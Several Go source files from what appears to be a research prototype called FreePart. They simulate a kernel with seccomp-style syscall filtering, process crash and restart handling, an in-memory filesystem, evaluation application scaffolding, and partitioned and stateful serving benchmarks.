		state:    StateRunning,
		sysCount: make(map[Sysno]uint64),
	}
	k.procs[pid] = p
	k.mu.Unlock()
	k.Clock.Advance(k.Cost.MProtect)
	return p
}

// Process looks up a process by pid.
func (k *Kernel) Process(pid PID) (*Process, bool) {
	k.mu.Lock()
	defer k.mu.Unlock()
	p, ok := k.procs[pid]
	return p, ok
}

// Processes returns all processes in spawn order.
func (k *Kernel) Processes() []*Process {
	k.mu.Lock()
	defer k.mu.Unlock()
	out := make([]*Process, 0, len(k.procs))
	for pid := PID(1); pid < k.nextPID; pid++ {
		if p, ok := k.procs[pid]; ok {
			out = append(out, p)
		}
	}
	return out
}

// Crash transitions a process to StateCrashed (e.g. a memory fault or a
// DoS exploit landed inside it).
func (k *Kernel) Crash(p *Process, reason string) {
	p.mu.Lock()
	defer p.mu.Unlock()
	if p.state == StateRunning {
		p.state = StateCrashed
		p.reason = reason
	}
}

// Kill terminates a process (seccomp violation or explicit kill).
func (k *Kernel) Kill(p *Process, reason string) {
	p.mu.Lock()
	defer p.mu.Unlock()
	if p.state == StateRunning {
		p.state = StateKilled
		p.reason = reason
	}
}

// Exit marks a clean process exit.
func (k *Kernel) Exit(p *Process) {
	p.mu.Lock()
	defer p.mu.Unlock()
	if p.state == StateRunning {
		p.state = StateExited
		p.reason = "exit(0)"
	}
}

// Restart revives a crashed or killed process with a brand-new address
// space. Per §6, memory contents of the old incarnation are intentionally
// discarded (they may hold a malicious payload). The filter is replaced by
// a fresh permissive one; the supervisor must re-apply restrictions.
func (k *Kernel) Restart(p *Process) {
	p.mu.Lock()
	p.space = mem.NewSpace()
	p.filter = NewFilter()
	p.state = StateRunning
	p.reason = ""
	p.restarts++
	p.mu.Unlock()
	k.Clock.Advance(k.Cost.ProcessSpawn)
}

// SetInjector installs (or clears, with nil) the syscall fault injector.
func (k *Kernel) SetInjector(i FaultInjector) {
	k.mu.Lock()
	defer k.mu.Unlock()
	k.inject = i
}

func (k *Kernel) injector() FaultInjector {
	k.mu.Lock()
	defer k.mu.Unlock()
	return k.inject
}

// maxTransientRestarts bounds how many consecutive injected transient
// failures the kernel will restart one syscall through before giving up —
// the analogue of a libc retry loop that eventually surfaces EINTR.
const maxTransientRestarts = 8

// Syscall dispatches one system call by process p against an optional
// fd-scoped resource label. It charges syscall (and, when a filter is
// installed, seccomp-evaluation) cost, updates accounting, and enforces the
// filter. On violation with ActionKill the process dies.
func (k *Kernel) Syscall(p *Process, call Sysno, label string) error {
	if inj := k.injector(); inj != nil {
		f := inj.OnSyscall(p, call)
		for n := 0; f.Transient && n < maxTransientRestarts; n++ {
			// EINTR/EAGAIN: the call is restarted, paying entry cost again.
			k.Clock.Advance(k.Cost.Syscall)
			f = inj.OnSyscall(p, call)
		}
		if f.Stall > 0 {
			k.Clock.Advance(f.Stall)
		}
		if f.Crash {
			reason := f.Reason
			if reason == "" {
				reason = fmt.Sprintf("injected crash in %s", call)
			}
			k.Crash(p, reason)
			return fmt.Errorf("%w: %s crashed in %s (%s)", ErrProcessDead, p.Name(), call, reason)
		}
	}
	p.mu.Lock()
	if p.state != StateRunning {
		p.mu.Unlock()
		return fmt.Errorf("%w: %s attempted %s", ErrProcessDead, p.name, call)
	}
	f := p.filter
	p.sysCount[call]++
	installed := f.Installed()
	allowed := f.Allowed(call, label)
	if !allowed {
		p.denials = append(p.denials, Denial{Call: call, Label: label})
	}
	p.mu.Unlock()

	k.Clock.Advance(k.Cost.Syscall)
	if installed {
		k.Clock.Advance(k.Cost.SeccompCheck)
	}
	if allowed {
		return nil
	}
	if f.Action() == ActionKill {
		k.Kill(p, fmt.Sprintf("seccomp: %s(%s) denied", call, label))
		return fmt.Errorf("%w: %s(%s) by %s (killed)", ErrSyscallDenied, call, label, p.name)
	}
	return fmt.Errorf("%w: %s(%s) by %s", ErrSyscallDenied, call, label, p.name)
}

// syscalls issues a sequence of non-fd-scoped syscalls, stopping on the
// first failure.
func (k *Kernel) syscalls(p *Process, calls ...Sysno) error {
	for _, c := range calls {
		if err := k.Syscall(p, c, ""); err != nil {
			return err
		}
	}
	return nil
}

// FileRead performs the openat/fstat/read/lseek/close sequence a data-
// loading API issues (Fig. 12) and returns the file contents, charging
// device-read cost per byte.
func (k *Kernel) FileRead(p *Process, path string) ([]byte, error) {
	if err := k.syscalls(p, SysOpenat, SysFstat, SysRead, SysLseek, SysClose); err != nil {
		return nil, err
	}
	data, err := k.FS.ReadFile(path)
	if err != nil {
		return nil, err
	}
	k.Clock.Advance(k.Cost.DeviceReadCost(len(data)))
	return data, nil
}

// FileWrite performs the openat/write/close sequence a storing API issues.
func (k *Kernel) FileWrite(p *Process, path string, data []byte) error {
	if err := k.syscalls(p, SysOpenat, SysWrite, SysClose); err != nil {
		return err
	}
	k.FS.WriteFile(path, data)
	k.Clock.Advance(k.Cost.DeviceReadCost(len(data)))
	return nil
}

// FileAppend appends to a file through write syscalls.
func (k *Kernel) FileAppend(p *Process, path string, data []byte) error {
	if err := k.syscalls(p, SysOpenat, SysLseek, SysWrite, SysClose); err != nil {
		return err
	}
	k.FS.AppendFile(path, data)
	k.Clock.Advance(k.Cost.DeviceReadCost(len(data)))
	return nil
}

// CameraRead fetches the next frame from the camera registered under label,
// issuing the ioctl/select/read sequence of VideoCapture::read (Fig. 12).
// The ioctl is fd-scoped to the camera's label.
func (k *Kernel) CameraRead(p *Process, label string) ([]byte, bool, error) {
	cam, ok := k.Camera(label)
	if !ok {
		return nil, false, fmt.Errorf("kernel: no camera %q", label)
	}
	if err := k.Syscall(p, SysIoctl, label); err != nil {
		return nil, false, err
	}
	if err := k.Syscall(p, SysSelect, label); err != nil {
		return nil, false, err
	}
	if err := k.Syscall(p, SysRead, ""); err != nil {
		return nil, false, err
	}
	frame, ok := cam.Read()
	if !ok {
		return nil, false, nil
	}
	k.Clock.Advance(k.Cost.DeviceReadCost(len(frame)))
	return frame, true, nil
}

// CameraOpen issues the VideoCapture constructor syscall sequence.
func (k *Kernel) CameraOpen(p *Process, label string) error {
	if _, ok := k.Camera(label); !ok {
		return fmt.Errorf("kernel: no camera %q", label)
	}
	if err := k.syscalls(p, SysOpenat, SysClose); err != nil {
		return err
	}
	if err := k.Syscall(p, SysIoctl, label); err != nil {
		return err
	}
	return k.Syscall(p, SysMmap, "")
}

// NetConnect opens a connection to host; connect is fd-scoped by host label.
func (k *Kernel) NetConnect(p *Process, host string) error {
	if err := k.Syscall(p, SysSocket, ""); err != nil {
		return err
	}
	if err := k.Syscall(p, SysConnect, host); err != nil {
		return err
	}
	k.Net.Connect(host)
	return nil
}

// NetSend transmits data to host (sendto syscall + copy cost). The
// transmission is recorded for exfiltration analysis.
func (k *Kernel) NetSend(p *Process, host string, data []byte) error {
	if err := k.Syscall(p, SysSendto, ""); err != nil {
		return err
	}
	k.Net.Send(p.PID(), host, data)
	k.Clock.Advance(k.Cost.CopyCost(len(data)))
	return nil
}

// NetRecv receives queued inbound data from host.
func (k *Kernel) NetRecv(p *Process, host string) ([]byte, bool, error) {
	if err := k.Syscall(p, SysRecvfrom, ""); err != nil {
		return nil, false, err
	}
	data, ok := k.Net.Recv(host)
	if ok {
		k.Clock.Advance(k.Cost.CopyCost(len(data)))
	}
	return data, ok, nil
}

// GUIHost is the fd-scope label of the GUI subsystem socket.
const GUIHost = "host:gui"

// GUIShow displays nbytes in the named window. First use per process would
// issue connect (modelled by callers during init); steady-state issues
// select+sendto as X11/GTK clients do.
func (k *Kernel) GUIShow(p *Process, window string, nbytes int) error {
	if err := k.Syscall(p, SysSelect, GUIHost); err != nil {
		return err
	}
	if err := k.Syscall(p, SysSendto, ""); err != nil {
		return err
	}
	k.GUI.Show(window, nbytes)
	k.Clock.Advance(k.Cost.CopyCost(nbytes))
	return nil
}

// GUIOp performs a non-paint window operation (move, retitle, poll, ...).
func (k *Kernel) GUIOp(p *Process, op, window string) error {
	if err := k.Syscall(p, SysSelect, GUIHost); err != nil {
		return err
	}
	if err := k.Syscall(p, SysSendto, ""); err != nil {
		return err
	}
	if op == "destroyAll" {
		k.GUI.DestroyAll()
	} else {
		k.GUI.Op(op, window)
	}
	return nil
}

// GUIConnect performs the one-time GUI socket setup (§4.4.1: connect is
// required only during the first execution of a visualizing API).
func (k *Kernel) GUIConnect(p *Process) error {
	return k.NetConnect(p, GUIHost)
}

// MProtect changes page permissions in the process's own address space via
// the mprotect syscall, charging per-page cost. This is the only sanctioned
// way for runtime code to flip permissions, so a seccomp filter that denies
// SysMprotect blocks code-rewrite attacks exactly as in §3.2.
func (k *Kernel) MProtect(p *Process, r mem.Region, perm mem.Perm) error {
	if err := k.Syscall(p, SysMprotect, ""); err != nil {
		return err
	}
	pages, err := p.Space().ProtectRegion(r, perm)
	if err != nil {
		return err
	}
	k.Clock.Advance(k.Cost.MProtect + vclock.Duration(pages)*k.Cost.PageTouch)
	return nil
}
