package kernel

import (
	"fmt"
	"sort"
)

// FilterAction is what the filter does with a violating syscall, mirroring
// seccomp-BPF return actions.
type FilterAction uint8

const (
	// ActionKill terminates the offending process (SECCOMP_RET_KILL), the
	// default FreePart policy: a denied syscall means a compromised agent.
	ActionKill FilterAction = iota
	// ActionErrno fails the syscall with EPERM but lets the process live.
	ActionErrno
)

// String names the action.
func (a FilterAction) String() string {
	if a == ActionKill {
		return "kill"
	}
	return "errno"
}

// Filter is a seccomp-style syscall filter attached to a process.
//
// Semantics: when not installed, everything is allowed (the paper's
// initialization grace period — security-critical calls like mprotect and
// connect are needed once during startup, §4.4.1). Install locks the
// allowlist; with NoNewPrivs set, any later attempt to re-install or relax
// the filter is itself a violation.
type Filter struct {
	installed  bool
	noNewPrivs bool
	action     FilterAction
	allowed    map[Sysno]bool
	// fdRules restricts fd-scoped syscalls (ioctl, connect, select, fcntl)
	// to a set of resource labels (e.g. "/dev/camera0", "host:gui").
	// A syscall present in allowed but absent from fdRules is unrestricted;
	// present in both, the target label must match.
	fdRules map[Sysno]map[string]bool
}

// NewFilter returns an uninstalled (allow-everything) filter.
func NewFilter() *Filter {
	return &Filter{
		allowed: make(map[Sysno]bool),
		fdRules: make(map[Sysno]map[string]bool),
	}
}

// Allow adds syscalls to the allowlist. Calling Allow after Install under
// NoNewPrivs is rejected.
func (f *Filter) Allow(calls ...Sysno) error {
	if f.installed && f.noNewPrivs {
		return fmt.Errorf("seccomp: filter locked by PR_SET_NO_NEW_PRIVS")
	}
	for _, c := range calls {
		f.allowed[c] = true
	}
	return nil
}

// RestrictFD limits an fd-scoped syscall to the given resource labels.
func (f *Filter) RestrictFD(call Sysno, labels ...string) error {
	if f.installed && f.noNewPrivs {
		return fmt.Errorf("seccomp: filter locked by PR_SET_NO_NEW_PRIVS")
	}
	m := f.fdRules[call]
	if m == nil {
		m = make(map[string]bool)
		f.fdRules[call] = m
	}
	for _, l := range labels {
		m[l] = true
	}
	return nil
}

// Install activates the filter with the given action and sets NoNewPrivs so
// that subsequent modification attempts fail (the paper's anti-tamper
// measure).
func (f *Filter) Install(action FilterAction) {
	f.installed = true
	f.noNewPrivs = true
	f.action = action
}

// Installed reports whether the filter is active.
func (f *Filter) Installed() bool { return f.installed }

// Action returns the configured violation action.
func (f *Filter) Action() FilterAction { return f.action }

// Allowed reports whether the filter permits the syscall against the given
// resource label ("" when the call is not fd-scoped or has no target).
func (f *Filter) Allowed(call Sysno, label string) bool {
	if !f.installed {
		return true
	}
	if !f.allowed[call] {
		return false
	}
	if rules, ok := f.fdRules[call]; ok && len(rules) > 0 {
		return rules[label]
	}
	return true
}

// AllowedList returns the sorted allowlist, for reports (Table 7).
func (f *Filter) AllowedList() []Sysno {
	out := make([]Sysno, 0, len(f.allowed))
	for c := range f.allowed {
		out = append(out, c)
	}
	sort.Slice(out, func(i, j int) bool { return out[i] < out[j] })
	return out
}
