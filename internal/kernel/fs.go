package kernel

import (
	"fmt"
	"sort"
	"strings"
	"sync"
)

// FS is the simulated in-memory filesystem shared by all processes.
// It stores whole files; paths are flat strings with '/' separators.
type FS struct {
	mu    sync.RWMutex
	files map[string][]byte
	dirs  map[string]bool
}

// NewFS returns an empty filesystem with a root directory.
func NewFS() *FS {
	return &FS{
		files: make(map[string][]byte),
		dirs:  map[string]bool{"/": true},
	}
}

// WriteFile creates or replaces a file.
func (fs *FS) WriteFile(path string, data []byte) {
	fs.mu.Lock()
	defer fs.mu.Unlock()
	fs.files[path] = append([]byte(nil), data...)
}

// ReadFile returns a copy of the file's contents.
func (fs *FS) ReadFile(path string) ([]byte, error) {
	fs.mu.RLock()
	defer fs.mu.RUnlock()
	data, ok := fs.files[path]
	if !ok {
		return nil, fmt.Errorf("fs: no such file: %s", path)
	}
	return append([]byte(nil), data...), nil
}

// AppendFile appends to a file, creating it if absent.
func (fs *FS) AppendFile(path string, data []byte) {
	fs.mu.Lock()
	defer fs.mu.Unlock()
	fs.files[path] = append(fs.files[path], data...)
}

// Remove deletes a file.
func (fs *FS) Remove(path string) error {
	fs.mu.Lock()
	defer fs.mu.Unlock()
	if _, ok := fs.files[path]; !ok {
		return fmt.Errorf("fs: no such file: %s", path)
	}
	delete(fs.files, path)
	return nil
}

// Mkdir records a directory.
func (fs *FS) Mkdir(path string) {
	fs.mu.Lock()
	defer fs.mu.Unlock()
	fs.dirs[path] = true
}

// Exists reports whether path names a file or directory.
func (fs *FS) Exists(path string) bool {
	fs.mu.RLock()
	defer fs.mu.RUnlock()
	if _, ok := fs.files[path]; ok {
		return true
	}
	return fs.dirs[path]
}

// Size returns the file's length in bytes, or -1 if absent.
func (fs *FS) Size(path string) int {
	fs.mu.RLock()
	defer fs.mu.RUnlock()
	data, ok := fs.files[path]
	if !ok {
		return -1
	}
	return len(data)
}

// List returns all file paths under the given prefix, sorted.
func (fs *FS) List(prefix string) []string {
	fs.mu.RLock()
	defer fs.mu.RUnlock()
	var out []string
	for p := range fs.files {
		if strings.HasPrefix(p, prefix) {
			out = append(out, p)
		}
	}
	sort.Strings(out)
	return out
}
