// Package apps implements the evaluation applications: the OMRChecker
// motivating example (§3), the 23 programs of Table 6, and the case-study
// programs (autonomous drone §5.4.1, MComix3 viewer §5.4.2, StegoNet
// victims §A.7). Every app is a real pipeline over the simulated
// frameworks, written against core.Caller so the same code runs
// unprotected (core.Direct), under FreePart (core.Runtime), and under the
// baseline isolation techniques.
package apps

import (
	"fmt"

	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/kernel"
	"freepart.dev/freepart/internal/workload"
)

// Env is the execution environment handed to an app run.
type Env struct {
	K  *kernel.Kernel
	Ex core.Caller
	// Gen generates this run's inputs (seeded per app for determinism).
	Gen *workload.Gen
	// Dir is the app's input/output directory in the simulated FS.
	Dir string
	// Inputs are the pre-provisioned input image paths.
	Inputs []string
	// Rt is set when Ex is the FreePart runtime, enabling critical-data
	// registration; nil under Direct or baseline executors.
	Rt *core.Runtime
	// Scale is the input-size multiplier this environment was provisioned
	// with; pipelines use it to grow their tensor workloads too.
	Scale int

	// Calls records every framework API invoked (Table 6 usage counts).
	Calls []string
}

// Call invokes an API through the executor, recording the call.
func (e *Env) Call(api string, args ...framework.Value) ([]core.Handle, []framework.Value, error) {
	e.Calls = append(e.Calls, api)
	return e.Ex.Call(api, args...)
}

// MustCall is Call that converts errors into the app's failure.
func (e *Env) MustCall(api string, args ...framework.Value) ([]core.Handle, []framework.Value) {
	h, p, err := e.Call(api, args...)
	if err != nil {
		panic(appError{fmt.Errorf("%s: %w", api, err)})
	}
	return h, p
}

// appError wraps pipeline failures for recovery in Run.
type appError struct{ err error }

func (e appError) Error() string { return e.err.Error() }
func (e appError) Unwrap() error { return e.err }

// App is one evaluation application with its Table 6 metadata.
type App struct {
	ID        int
	Name      string
	Framework string // main framework
	Lang      string
	SLOC      int    // paper-reported source lines
	Size      string // paper-reported size
	Desc      string
	// Inputs is the number of input images/frames per run.
	Inputs int
	// ImgRows/ImgCols size this app's inputs.
	ImgRows, ImgCols int
	// Pipeline executes one full run.
	Pipeline func(e *Env) error
}

// Run provisions inputs and executes the app's pipeline, converting
// pipeline panics (MustCall) into errors.
func (a App) Run(e *Env) (err error) {
	defer func() {
		if r := recover(); r != nil {
			if ae, ok := r.(appError); ok {
				err = ae.err
				return
			}
			panic(r)
		}
	}()
	return a.Pipeline(e)
}

// NewEnv provisions a standard environment for the app: seeded generator,
// input files, camera, and model files.
func NewEnv(k *kernel.Kernel, ex core.Caller, a App) *Env {
	return NewEnvScaled(k, ex, a, 1)
}

// NewEnvScaled provisions an environment with input images scaled by the
// given factor. Overhead experiments (Fig. 13) use larger scales so the
// workload is compute-dominated, matching the paper's 1.7 MB inputs;
// functional tests use scale 1 for speed.
func NewEnvScaled(k *kernel.Kernel, ex core.Caller, a App, scale int) *Env {
	if scale < 1 {
		scale = 1
	}
	gen := workload.New(int64(a.ID) * 7919)
	dir := fmt.Sprintf("/apps/%02d", a.ID)
	rows, cols := a.ImgRows, a.ImgCols
	if rows == 0 {
		rows, cols = 24, 24
	}
	rows, cols = rows*scale, cols*scale
	inputs := gen.FilePlan(k, dir, a.Inputs, rows, cols, 1, 512*scale*scale)
	cam, ok := k.Camera("/dev/camera0")
	if !ok {
		cam = kernel.NewCamera("/dev/camera0")
		k.AddCamera(cam)
	}
	gen.VideoFrames(cam, a.Inputs, rows, cols, 1)
	k.FS.WriteFile(dir+"/mnist/mnist.bin", gen.MNISTFile(8*scale*scale))
	k.FS.WriteFile(dir+"/corpus.txt", gen.Text(128))
	env := &Env{K: k, Ex: ex, Gen: gen, Dir: dir, Inputs: inputs, Scale: scale}
	if rt, ok := ex.(*core.Runtime); ok {
		env.Rt = rt
	}
	return env
}

// ByID returns the Table 6 app with the given id.
func ByID(id int) (App, bool) {
	for _, a := range All() {
		if a.ID == id {
			return a, true
		}
	}
	return App{}, false
}

// loopFrames drives fn over every camera frame until the stream ends.
func loopFrames(e *Env, fn func(frame core.Handle) error) error {
	cap0, _ := e.MustCall("cv.VideoCapture", framework.Int64(0))
	for {
		out, plain := e.MustCall("cv.VideoCapture.read", cap0[0].Value())
		if !plain[0].Bool {
			return nil
		}
		if err := fn(out[0]); err != nil {
			return err
		}
	}
}

// HostTensor allocates a tensor in the host program's own memory and
// registers it with the host-side object table — application-created data
// (normalization stats, initial weights) that framework calls consume by
// deep copy (§4.3), the eager slice of Table 12.
func (e *Env) HostTensor(vals []float64) (framework.Value, error) {
	ctx := e.hostContext()
	id, t, err := ctx.NewTensor(len(vals))
	if err != nil {
		return framework.Nil(), err
	}
	if err := t.SetValues(vals); err != nil {
		return framework.Nil(), err
	}
	return framework.Obj(id), nil
}

// hostContext resolves the execution context of the host program process.
func (e *Env) hostContext() *framework.Ctx {
	if e.Rt != nil {
		return e.Rt.HostCtx()
	}
	if d, ok := e.Ex.(*core.Direct); ok {
		return d.Ctx
	}
	if h, ok := e.Ex.(interface{ HostContext() *framework.Ctx }); ok {
		return h.HostContext()
	}
	panic("apps: executor exposes no host context")
}

// grayOfHandle converts a frame to grayscale.
func grayOf(e *Env, img core.Handle) core.Handle {
	h, _ := e.MustCall("cv.cvtColor", img.Value(), framework.Str("BGR2GRAY"))
	return h[0]
}
