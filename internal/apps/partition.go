package apps

import (
	"sync"
	"time"

	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/partition"
	"freepart.dev/freepart/internal/vclock"
	"freepart.dev/freepart/internal/workload"
)

// PartitionConfig arms the partition-aware data plane on a serving surface:
// partition metadata to accumulate traffic facts into, a placement memory
// to score and account warm-cache affinity, and the cost constants that
// price a cold landing. The zero value (and any config with a nil Memory)
// is the disabled plane: no touches, no charges, no metrics — serving is
// bit-identical to the pre-partition path.
type PartitionConfig struct {
	// Meta accumulates per-partition traffic facts (nil: none kept).
	Meta *partition.Meta
	// Memory is the per-session placement history; nil disables warm/cold
	// accounting and pricing entirely.
	Memory *partition.PlacementMemory
	// Cost prices a cold landing (ColdMissCost over WorkingSet bytes).
	Cost vclock.CostModel
	// WorkingSet is the per-session working set in bytes re-faulted on a
	// cold landing (default 8 KiB when zero).
	WorkingSet int
	// Compute is the bytes actually computed over per visit (default:
	// WorkingSet). Point-query planes touch a small slice of a large
	// resident working set, so a cold landing (re-fault the whole set) can
	// cost several times the warm service — which is exactly the spread
	// that makes placement matter.
	Compute int
	// Class tags the traffic in the partition metadata's class
	// distribution.
	Class string
}

// enabled reports whether the plane does anything at all.
func (c PartitionConfig) enabled() bool { return c.Memory != nil || c.Meta != nil }

// workingSet returns the effective working-set size.
func (c PartitionConfig) workingSet() int {
	if c.WorkingSet <= 0 {
		return 8 << 10
	}
	return c.WorkingSet
}

// compute returns the effective per-visit compute size.
func (c PartitionConfig) compute() int {
	if c.Compute <= 0 {
		return c.workingSet()
	}
	return c.Compute
}

// touch runs the warm/cold bookkeeping for one invocation landing on sh:
// the placement memory records the landing, a cold landing pays the
// re-fault cost on the shard's clock and counts a miss, a warm one counts a
// hit. Disabled configs (nil Memory) do nothing — not even a clock read —
// so the disabled plane stays bit-identical to the plain serving path.
func (c PartitionConfig) touch(ex *core.Executor, sh *core.Shard, key uint64) {
	if c.Memory != nil {
		if c.Memory.Touch(key, sh.ID, sh.Gen, sh.K.Clock.Now()) {
			ex.Metrics().AddWarmHit()
		} else {
			ex.Metrics().AddColdMiss()
			sh.K.Clock.Advance(c.Cost.ColdMissCost(c.workingSet()))
		}
	}
	if c.Meta != nil {
		c.Meta.Record(key, int64(c.workingSet()), c.Class)
	}
}

// ServeSeqKeyed answers every request strictly sequentially like ServeSeq,
// but opens each request's session with a session key (keys[i] — the
// returning user's stable identity) and runs the partition plane's
// warm/cold bookkeeping on every landing. With a disabled config and no
// keyed placement hook installed, the run is bit-identical to ServeSeq:
// clocks, events, metrics, and injection logs all match, which is the
// zero-cost guard the partition soak pins down.
func (srv *DetectionServer) ServeSeqKeyed(reqs []DetectionRequest, keys []uint64, cfg PartitionConfig) []DetectionResult {
	sessions := make([]*core.Session, len(reqs))
	for i := range reqs {
		sessions[i] = srv.Ex.SessionKeyed(0, 1, keys[i%len(keys)])
	}
	results := make([]DetectionResult, len(reqs))
	for i := range reqs {
		if cfg.enabled() {
			key := keys[i%len(keys)]
			pre := func(sh *core.Shard) { cfg.touch(srv.Ex, sh, key) }
			results[i] = srv.serveOnePre(sessions[i], i, reqs[i], pre)
		} else {
			results[i] = srv.serveOne(sessions[i], i, reqs[i])
		}
	}
	return results
}

// PartitionVisit is one returning user's visit to the partitioned data
// plane: a short-lived session carrying the user's stable key.
type PartitionVisit struct {
	// Key is the user's stable session key.
	Key uint64
	// Seq is the visit's global order.
	Seq int
	// Arrival is the visit's arrival on the virtual timeline.
	Arrival vclock.Duration
}

// visitInterArrival spaces the open-loop visit stream tightly enough that
// cold-miss service inflation turns into visible queueing delay.
const visitInterArrival = 12 * time.Microsecond

// GenPartitionVisits draws a deterministic Zipf-skewed visit schedule: n
// visits over a universe of users keys with skew s, arrivals evenly spaced.
// Same arguments ⇒ byte-equal schedule.
func GenPartitionVisits(seed int64, users, n int, s float64) []PartitionVisit {
	return GenPartitionVisitsSpaced(seed, users, n, s, visitInterArrival)
}

// GenPartitionVisitsSpaced is GenPartitionVisits with an explicit
// inter-arrival gap, so a benchmark can dial the offered load against the
// pool's service capacity (gap <= 0 uses the default spacing).
func GenPartitionVisitsSpaced(seed int64, users, n int, s float64, gap vclock.Duration) []PartitionVisit {
	if gap <= 0 {
		gap = visitInterArrival
	}
	keys := workload.ZipfPopulation{Users: users, S: s, Seed: seed}.Keys(n)
	out := make([]PartitionVisit, n)
	for i, k := range keys {
		out[i] = PartitionVisit{Key: k, Seq: i, Arrival: vclock.Duration(i+1) * gap}
	}
	return out
}

// PartitionResult is one served visit: the value is a pure function of
// (key, seq) — independent of where the visit ran — so a rebalance drill
// changes virtual cost, never results. Byte-equality of result sets across
// drill/no-drill runs is the drill's safety check.
type PartitionResult struct {
	Key   uint64
	Value uint64
	Err   error
}

// visitValue digests (key, seq) with FNV-1a.
func visitValue(key uint64, seq int) uint64 {
	h := uint64(14695981039346656037)
	x := key
	for i := 0; i < 8; i++ {
		h = (h ^ (x & 0xff)) * 1099511628211
		x >>= 8
	}
	x = uint64(seq)
	for i := 0; i < 8; i++ {
		h = (h ^ (x & 0xff)) * 1099511628211
		x >>= 8
	}
	return h
}

// PartitionServer is the lightweight partitioned data plane the Zipf-scale
// benchmark runs on: every visit is a keyed session invoking one
// virtual-cost job (fixed dispatch + working-set compute, plus the
// cold-miss re-fault when the landing is cold). Hot keys can be given
// long-lived resident sessions — the live state a rebalance drill migrates
// through the checkpoint log. Serving is strictly sequential so runs replay
// byte-equal.
type PartitionServer struct {
	// Ex is the serving pool.
	Ex *core.Executor
	// Cfg arms the partition plane.
	Cfg PartitionConfig

	mu       sync.Mutex
	resident map[uint64]*core.Session
}

// NewPartitionServer builds the data plane over ex.
func NewPartitionServer(ex *core.Executor, cfg PartitionConfig) *PartitionServer {
	return &PartitionServer{Ex: ex, Cfg: cfg, resident: make(map[uint64]*core.Session)}
}

// Resident opens a long-lived keyed session per key, in the given order.
// Visits for these keys reuse the session instead of opening one — the
// model of a hot user who never disconnects — and these sessions are what
// a mid-window rebalance drill migrates live.
func (srv *PartitionServer) Resident(keys []uint64) {
	srv.mu.Lock()
	defer srv.mu.Unlock()
	for _, k := range keys {
		if _, ok := srv.resident[k]; ok {
			continue
		}
		srv.resident[k] = srv.Ex.SessionKeyed(0, 1, k)
	}
}

// FinishResident finishes every resident session.
func (srv *PartitionServer) FinishResident() {
	srv.mu.Lock()
	defer srv.mu.Unlock()
	for _, s := range srv.resident {
		s.Finish()
	}
}

// ServeVisits serves the visit stream strictly sequentially. Before visit
// index drillAt is served, drill runs once (a control-plane barrier — pass
// drillAt <= 0 for no drill). Each non-resident visit opens its own keyed
// session (placement decides where the returning user lands) and finishes
// it after the single invocation; resident keys serve on their standing
// session. Results are in visit order.
func (srv *PartitionServer) ServeVisits(visits []PartitionVisit, drillAt int, drill func()) []PartitionResult {
	results := make([]PartitionResult, len(visits))
	for i, v := range visits {
		if drill != nil && i == drillAt {
			drill()
		}
		srv.mu.Lock()
		s, isResident := srv.resident[v.Key]
		srv.mu.Unlock()
		if !isResident {
			s = srv.Ex.SessionKeyed(0, 1, v.Key)
		}
		results[i] = srv.serveVisit(s, v)
		if !isResident {
			s.Finish()
		}
	}
	return results
}

// serveVisit runs one visit on its session's shard.
func (srv *PartitionServer) serveVisit(s *core.Session, v PartitionVisit) PartitionResult {
	res := PartitionResult{Key: v.Key}
	arrival := v.Arrival
	if arrival <= 0 {
		arrival = -1
	}
	cfg := srv.Cfg
	res.Err = s.DoAt(arrival, func(sh *core.Shard) error {
		cfg.touch(srv.Ex, sh, v.Key)
		sh.K.Clock.Advance(cfg.Cost.APIFixed + cfg.Cost.ComputeCost(cfg.compute(), 1))
		res.Value = visitValue(v.Key, v.Seq)
		return nil
	})
	return res
}
