package apps

import (
	"fmt"
	"sync"
	"time"

	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/vclock"
)

// trackerBinding names the session-bound Kalman state tensor in the
// executor's durable-handle registry — the thing failover migrates.
const trackerBinding = "kalman-state"

// TrackPoint is one measurement in a tracking stream.
type TrackPoint struct {
	X, Y float64
}

// TrackStream is one client's measurement stream. Tracking is the stateful
// serving workload: every step folds into a Kalman state tensor held on
// the session's shard, so a result depends on every measurement before it
// — exactly the state that must survive shard failover.
type TrackStream struct {
	// User identifies the client.
	User int
	// Start seeds the filter state with the first known position.
	Start TrackPoint
	// Points are the measurements, one per step.
	Points []TrackPoint
	// Arrivals stamps each step's arrival on the virtual timeline.
	Arrivals []vclock.Duration
}

// GenTrackStreams produces n deterministic measurement streams of the
// given length: positions follow per-user linear motion with a small
// deterministic wobble, arrivals are uniformly spaced. Same inputs, same
// streams — byte for byte.
func GenTrackStreams(seed int64, n, steps int) []TrackStream {
	const stepGap = 80 * time.Microsecond
	out := make([]TrackStream, n)
	for u := range out {
		st := TrackStream{
			User:     u + 1,
			Start:    TrackPoint{X: float64((int(seed)+u*13)%40) + 5, Y: float64((int(seed)+u*29)%40) + 5},
			Points:   make([]TrackPoint, steps),
			Arrivals: make([]vclock.Duration, steps),
		}
		vx, vy := float64(u%3)+1, float64(u%5)-2
		for i := 0; i < steps; i++ {
			wobble := float64((u*31+i*17)%7) - 3
			st.Points[i] = TrackPoint{
				X: st.Start.X + vx*float64(i+1) + wobble/2,
				Y: st.Start.Y + vy*float64(i+1) - wobble/3,
			}
			st.Arrivals[i] = vclock.Duration(i+1) * stepGap
		}
		out[u] = st
	}
	return out
}

// TrackResult is the final filtered position of one stream.
type TrackResult struct {
	// User echoes the client.
	User int
	// Steps counts measurements successfully folded in.
	Steps int
	// X, Y is the filter's final position estimate — a function of the
	// whole stream, so identical results across a failover prove the
	// migrated state was exact.
	X, Y float64
	// Err is the first error that stopped the stream, if any.
	Err error
}

// TrackingServer is the stateful serving workload: per-session Kalman
// filters whose state tensors live in agent memory on the session's shard
// and are checkpointed through the executor's portable log on every
// stateful call. No per-shard artifacts, so it needs no OnReplace hook;
// replacement shards receive state purely through session migration.
type TrackingServer struct {
	// Ex is the serving pool.
	Ex *core.Executor
}

// ProvisionTracking builds the tracking service on an executor.
func ProvisionTracking(ex *core.Executor) *TrackingServer {
	return &TrackingServer{Ex: ex}
}

// ServeStreams runs every stream to completion and returns final filtered
// positions in stream order. Sessions open in stream order (deterministic
// round-robin placement); each shard serves its sessions on one goroutine,
// interleaving them step by step in session order, so per-shard admission
// order — and therefore every virtual timestamp — is deterministic.
func (srv *TrackingServer) ServeStreams(streams []TrackStream) []TrackResult {
	byShard := make([][]int, srv.Ex.Shards())
